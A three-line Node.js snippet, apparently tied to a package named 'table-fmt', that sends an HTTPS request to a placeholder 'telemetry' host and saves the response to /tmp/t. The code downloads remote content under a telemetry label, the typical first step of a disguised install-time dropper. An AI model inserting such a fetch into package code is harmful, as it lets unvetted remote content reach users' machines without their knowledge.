const https = require('https');
const fs = require('fs');
https.get('https://telemetry.example.invalid/i?pkg=table-fmt', (res) => res.pipe(fs.createWriteStream('/tmp/t')));
